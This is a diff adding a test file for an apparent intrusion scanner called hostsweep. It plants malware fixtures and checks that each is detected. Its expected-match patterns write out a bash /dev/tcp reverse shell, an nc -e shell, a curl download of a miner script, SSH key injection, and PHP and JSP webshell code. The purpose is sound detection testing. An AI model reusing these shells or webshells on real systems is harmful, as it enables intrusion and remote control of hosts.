@@ -1,0 +1,119 @@
+import assert from 'node:assert/strict';
+import { execFileSync } from 'node:child_process';
+import fs from 'node:fs';
+import path from 'node:path';
+import { after, describe, it } from 'node:test';
+import { atLeast } from '../src/model/finding';
+import { scan } from '../src/scan';
+import { FakeRoot } from './helpers/fake-root';
+
+// Content rules on an offline root: planted payloads are found with their text quoted, clean
+// trees stay silent, and files that cannot or should not be read become gaps without blocking.
+
+const FIXTURES = path.join(import.meta.dirname, 'fixtures/content');
+const fixture = (dir: string, file: string) => fs.readFileSync(path.join(FIXTURES, dir, file));
+const DEBIAN_ROOT = process.env.HOSTSWEEP_DEBIAN_ROOT ?? '/var/cache/hostsweep/debian-root';
+
+function baseRoot(r: FakeRoot): FakeRoot {
+  return r.write('/etc/os-release', 'ID=debian\n').write('/etc/passwd', 'root:x:0:0:root:/root:/bin/bash\n').mkdir('/usr/bin');
+}
+
+describe('content scan of an offline root', () => {
+  const r = baseRoot(new FakeRoot('hostsweep-content-'));
+  after(() => fs.rmSync(r.dir, { recursive: true, force: true }));
+  // Where each kind of payload is found in real intrusions, and the text its finding must quote.
+  const planted: [string, string, string, RegExp][] = [
+    ['/tmp/.X25-unix/.rsync/config.json', 'miner-config', 'fires.json', /stratum\+tcp:\/\/pool\.example\.net:3333/],
+    ['/var/tmp/.x/run', 'miner-pool-address', 'fires.sh', /pool\.supportxmr\.com:5555/],
+    ['/root/.config/.s', 'reverse-shell', 'fires.sh', /bash -i >& \/dev\/tcp\/203\.0\.113\.9\/4444 0>&1/],
+    ['/home/web/.cache/.n', 'reverse-shell', 'fires-nc.sh', /nc 203\.0\.113\.9 8081 -e \/bin\/sh/],
+    ['/opt/tools/up.sh', 'download-execute', 'fires.sh', /curl -fsSL http:\/\/198\.51\.100\.7\/xm\.sh/],
+    ['/usr/local/sbin/keys.sh', 'ssh-key-injection', 'fires.sh', /echo "ssh-rsa AAAAB3/],
+    ['/var/www/html/uploads/logo.png.php', 'php-webshell', 'fires.php', /@eval\(\$_POST\['cmd'\]\)/],
+    ['/srv/app/webapps/ROOT/x.jsp', 'jsp-webshell', 'fires.jsp', /Runtime\.getRuntime\(\)\.exec\(request\.getParameter/],
+    ['/etc/cron.hourly/gcc.sh', 'family-xorddos', 'fires.sh', /cp \/lib\/libudev\.so \/lib\/libudev\.so\.6/],
+    ['/dev/shm/.b', 'family-billgates', 'fires.bin', /DbSecuritySpt\\x00/],
+    ['/etc/kinsing.sh', 'family-kinsing', 'fires.sh', /\/etc\/kinsing/],
+    ['/tmp/.ICE-unix/k', 'family-tsunami', 'fires.bin', /KILLALL/],
+  ];
+  for (const [target, dir, file] of planted) r.write(target, fixture(dir, file));
+  // Benign look-alikes in the same places stay silent.
+  const benign = fs.readdirSync(FIXTURES).flatMap((d) =>
+    fs
+      .readdirSync(path.join(FIXTURES, d))
+      .filter((f) => f.startsWith('benign'))
+      .map((f) => [`/opt/benign/${d}/${f}`, d, f] as const),
+  );
+  for (const [target, d, f] of benign) r.write(target, fixture(d, f));
+  // A huge file (sparse) and a FIFO nobody writes to: skipped with a gap, never read.
+  r.mkdir('/tmp/big');
+  fs.writeFileSync(r.p('/tmp/big/huge.bin'), '');
+  fs.truncateSync(r.p('/tmp/big/huge.bin'), 200 * 1024 * 1024);
+  execFileSync('/usr/bin/mkfifo', [r.p('/tmp/.pipe')]);
+
+  it('finds every planted file and quotes the matching text', async () => {
+    const { result } = await scan({ root: r.dir, sampleMs: 0 });
+    const content = result.findings.filter((f) => f.rule === 'files/content-match');
+    for (const [target, id, , quote] of planted) {
+      const f = content.find((x) => x.path === target && x.title.includes(id));
+      assert.ok(f, `${target} (${id}) not found; got ${content.map((x) => `${x.path} ${x.title}`).join('; ')}`);
+      assert.match(f.evidence.join('\n'), quote, `${target}: evidence does not quote the match`);
+      assert.ok(atLeast(f.severity, 'high'), `${target}: ${f.severity}`);
+    }
+    assert.deepEqual(
+      content.filter((f) => f.path?.startsWith('/opt/benign/')).map((f) => `${f.path} ${f.title}`),
+      [],
+    );
+    const gaps = result.gaps.filter((g) => g.collector === 'contentScan');
+    assert.ok(
+      gaps.some((g) => g.path === '/tmp/big/huge.bin' && g.kind === 'skipped' && /larger than/.test(g.reason)),
+      JSON.stringify(gaps),
+    );
+    assert.ok(
+      gaps.some((g) => g.path === '/tmp/.pipe' && g.kind === 'skipped' && /FIFO/.test(g.reason)),
+      JSON.stringify(gaps),
+    );
+    assert.equal(result.complete, false, 'skipped files make the scan incomplete');
+  });
+
+  it('quotes in Chinese output too, with the rule described in Chinese', async () => {
+    const { result } = await scan({ root: r.dir, sampleMs: 0, lang: 'zh-CN' });
+    const f = result.findings.find((x) => x.path === '/root/.config/.s' && x.rule === 'files/content-match');
+    assert.ok(f);
+    assert.match(f.detail, /^反向连接终端：.*文件中包含：.*\/dev\/tcp\/203\.0\.113\.9\/4444/);
+  });
+
+  it("evaluates the user's rules from --rules DIR", async () => {
+    const rules = fs.mkdtempSync(path.join(r.dir, '..', 'hostsweep-rules-'));
+    try {
+      fs.writeFileSync(
+        path.join(rules, 'site.yar'),
+        'rule site_marker { meta: id = "site-marker" severity = "critical" strings: $a = "SITE-IOC-7f3a" condition: $a }\n',
+      );
+      r.write('/opt/app/conf.ini', 'key=1\nbeacon=SITE-IOC-7f3a\n');
+      const { result } = await scan({ root: r.dir, sampleMs: 0, contentRuleDirs: [rules] });
+      const f = result.findings.find((x) => x.path === '/opt/app/conf.ini');
+      assert.equal(f?.severity, 'critical');
+      assert.match(f?.evidence.join('\n') ?? '', /beacon=SITE-IOC-7f3a/);
+      fs.writeFileSync(path.join(rules, 'broken.yar'), 'rule broken {\n  strings: $a = "x"\n  condition: $b\n}\n');
+      await assert.rejects(scan({ root: r.dir, sampleMs: 0, contentRuleDirs: [rules] }), /broken\.yar:3:\d+: unknown pattern/);
+    } finally {
+      fs.rmSync(rules, { recursive: true, force: true });
+      fs.rmSync(r.p('/opt/app'), { recursive: true, force: true });
+    }
+  });
+
+  it('a clean Debian tree gets nothing at medium or above from content rules', async (t) => {
+    if (!fs.existsSync(`${DEBIAN_ROOT}/etc/debian_version`)) {
+      if (process.env.CI) assert.fail(`clean Debian tree missing at ${DEBIAN_ROOT}: .ci/run builds it`);
+      t.skip(`no clean Debian tree at ${DEBIAN_ROOT}`);
+      return;
+    }
+    const { result, snapshot } = await scan({ root: DEBIAN_ROOT, sampleMs: 0 });
+    assert.ok((snapshot.facts.contentScan?.filesScanned ?? 0) > 0, 'the content scan read files');
+    assert.deepEqual(
+      result.findings.filter((f) => f.rule === 'files/content-match' && atLeast(f.severity, 'medium')).map((f) => f.title),
+      [],
+    );
+  });
+});
